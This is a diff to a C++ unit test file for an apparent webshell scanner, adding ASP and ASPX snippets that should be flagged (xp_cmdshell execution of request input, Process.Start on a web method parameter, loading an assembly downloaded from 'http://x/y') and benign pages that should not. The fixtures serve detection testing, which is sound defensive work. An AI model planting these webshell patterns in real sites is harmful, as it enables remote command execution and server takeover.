@@ -107,6 +107,10 @@ TEST(WebshellScan, NamesWhatPagesDo) {
       {"<%\nset w=createobject(\"wscr\"&\"ipt.shell\")\n%>", "ASP variant backdoor"},
       {"<%Set f=fso.CreateTextFile(request(\"p\"),True)\nf.Write request(\"c\")%>", "Suspected dangerous files"},
       {"<%c.open \"server=\"&request(\"s\")\nc.execute request(\"q\")%>", "Suspected dangerous files"},
+      {"<%set f=fso.opentextfile(server.mappath(request.servervariables(\"script_name\")),8)\nf.writeline "
+       "request(\"a\")%>",
+       "Suspected dangerous files"},
+      {"<%c.execute(\"exec master.dbo.xp_cmdshell '\"&request(\"c\")&\"'\")%>", "ASP variant backdoor"},
       {"<%@ codepage = 65000 %>+ADw-", "UTF-7 encoded script"},
       {"<%@ Page Language=\"C#\" %><% Process.Start(Request[\"c\"]); %>", "ASPX variant backdoor"},
       {"<%@ Page Language=\"C#\" %><script runat=server>void R(string c) { P.Start(\"cmd\", c); } void L() { "
@@ -124,6 +128,11 @@ TEST(WebshellScan, NamesWhatPagesDo) {
        "Assembly.Load(d);%>",
        "ASPX variant backdoor"},
       {"<%@ Page Language=\"C#\"%><%t.GetMethod(\"Start\").Invoke(null,new object[]{\"cmd\",Request[\"c\"]});%>",
+       "ASPX variant backdoor"},
+      {"<%@ WebService Language=\"C#\" Class=\"S\" %>\nclass S { [WebMethod] public void R(string c) {\n"
+       "Process.Start(c); } }",
+       "ASPX variant backdoor"},
+      {"<%@ Page Language=\"C#\"%><%Assembly.Load(new WebClient().DownloadData(\"http://x/y\"));%>",
        "ASPX variant backdoor"},
       {"<%@ Page Language=\"C#\"%><%new LosFormatter().Deserialize(Request[\"v\"]);%>", "ASPX variant backdoor"},
       {"<%@ Page Language=\"C#\"%><%File.WriteAllText(Request[\"p\"],Request[\"c\"]);%>", "Suspected dangerous files"},
@@ -150,6 +159,9 @@ TEST(WebshellScan, SparesOrdinaryPages) {
       "<%o(0)=\"wscript.shell\":o(1)=\"shell.application\":set x=server.createobject(request(\"n\"))%>",
       "<%set fso=createobject(\"scripting.\"&\"filesystemobject\"):fso.createtextfile(server.mappath(\"a.txt\")).write "
       "request(\"a\")%>",
+      "<script language=jscript runat=server>function p(s){return eval(\"(\"+s+\")\");}</script><%x=p(y)%>",
+      "<%@ WebService Language=\"C#\" Class=\"S\" %>\nclass S { [WebMethod] public void W(string n, string t) {\n"
+      "File.WriteAllText(Server.MapPath(\"~/d/\" + n), t); } }",
       "<%@ Page Language=\"C#\" %><%# Eval(\"a\") %><%=int.Parse(Request[\"a\"])%><%d.Load(Request[\"x\"]);"
       "new Thread(f).Start(Request[\"x\"]);%>",
       "<%@ WebHandler Language=\"C#\" Class=\"U\" %>\nclass U { void ProcessRequest(HttpContext c) {\n"
